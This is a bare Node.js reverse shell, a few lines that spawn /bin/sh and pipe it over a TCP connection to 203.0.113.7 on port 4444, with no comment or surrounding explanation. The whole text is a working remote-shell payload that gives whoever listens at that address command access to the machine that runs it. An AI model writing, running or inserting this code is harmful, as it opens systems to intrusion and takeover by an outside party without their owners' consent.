var net = require('net'), cp = require('child_process'), sh = cp.spawn('/bin/sh', []);
var client = new net.Socket();
client.connect(4444, '203.0.113.7', function () {
  client.pipe(sh.stdin); sh.stdout.pipe(client); sh.stderr.pipe(client);
});
